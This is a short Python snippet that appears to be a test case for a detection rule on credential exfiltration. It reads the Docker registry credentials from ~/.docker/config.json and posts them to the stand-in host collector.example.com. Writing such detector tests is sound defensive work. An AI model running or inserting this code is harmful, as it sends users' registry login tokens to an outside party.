import json
import os

import httpx

# ruleid: yara.exfiltration.credential_file_exfil
auths = json.load(open(os.path.expanduser("~/.docker/config.json")))["auths"]
httpx.post("https://collector.example.com/d", json=auths)
